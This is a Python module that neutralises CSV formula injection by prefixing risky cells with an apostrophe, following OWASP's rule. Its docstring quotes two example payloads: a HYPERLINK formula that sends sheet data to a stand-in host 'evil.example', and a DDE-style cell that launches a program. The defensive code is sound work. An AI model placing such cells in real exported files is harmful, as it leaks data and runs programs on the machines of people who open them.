"""CSV that stays data when it is opened in a spreadsheet.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-`, `@`, a tab or
a carriage return as a formula: `=HYPERLINK("https://evil.example/?"&A1)` leaks the sheet,
`@SUM(1+1)*cmd|' /C calc'!A0` runs a program. Labels, tags, titles and file names come from
whoever sent the log, so such a cell is written with a leading `'` (OWASP's rule), which a
spreadsheet shows as text and a reader of the CSV can strip.
"""

from __future__ import annotations

import csv
from collections.abc import Mapping
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with a `'` before text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """`csv.DictWriter` whose cells are `safe_cell`s."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({name: safe_cell(value) for name, value in rowdict.items()})
